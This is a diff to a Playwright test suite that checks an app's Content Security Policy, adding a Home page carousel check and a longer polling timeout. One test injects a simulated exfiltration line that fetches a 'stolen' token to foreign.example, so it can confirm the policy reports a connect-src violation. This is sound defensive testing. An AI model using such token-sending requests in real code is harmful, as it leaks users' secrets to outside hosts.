@@ -23,6 +23,7 @@ test.describe('the policy of the page is kept by the app itself (issue 9: header
       await page.goto('about:blank');
       await page.goto(`${mainAddress}/#${path}`);
       await expect(page.getByRole('heading', { level: 1, includeHidden: true }), path).toHaveCount(1);
+      if (path === '/Home') await expect(page.locator('.swiper-initialized')).toBeVisible();
       await page.evaluate(() => new Promise((quiet) => requestIdleCallback(quiet, { timeout: 2_000 })));
     }
     expect(violations).toEqual([]);
@@ -130,7 +131,7 @@ test.describe('what the policy refuses', () => {
     const expression = `fetch('https://foreign.example/stolen?token=1').catch(() => 0)\n//# sourceURL=${entry}`;
     await client.send('Runtime.evaluate', { expression });
     await expect
-      .poll(() => operate('violations'), { timeout: 20_000, intervals: [2_000] })
+      .poll(() => operate('violations'), { timeout: 60_000, intervals: [2_000] })
       .toContain(`mfe-lottery ${decodeURIComponent(release ?? '')}`);
     const told = await operate('violations');
     expect(told).toContain('connect-src');
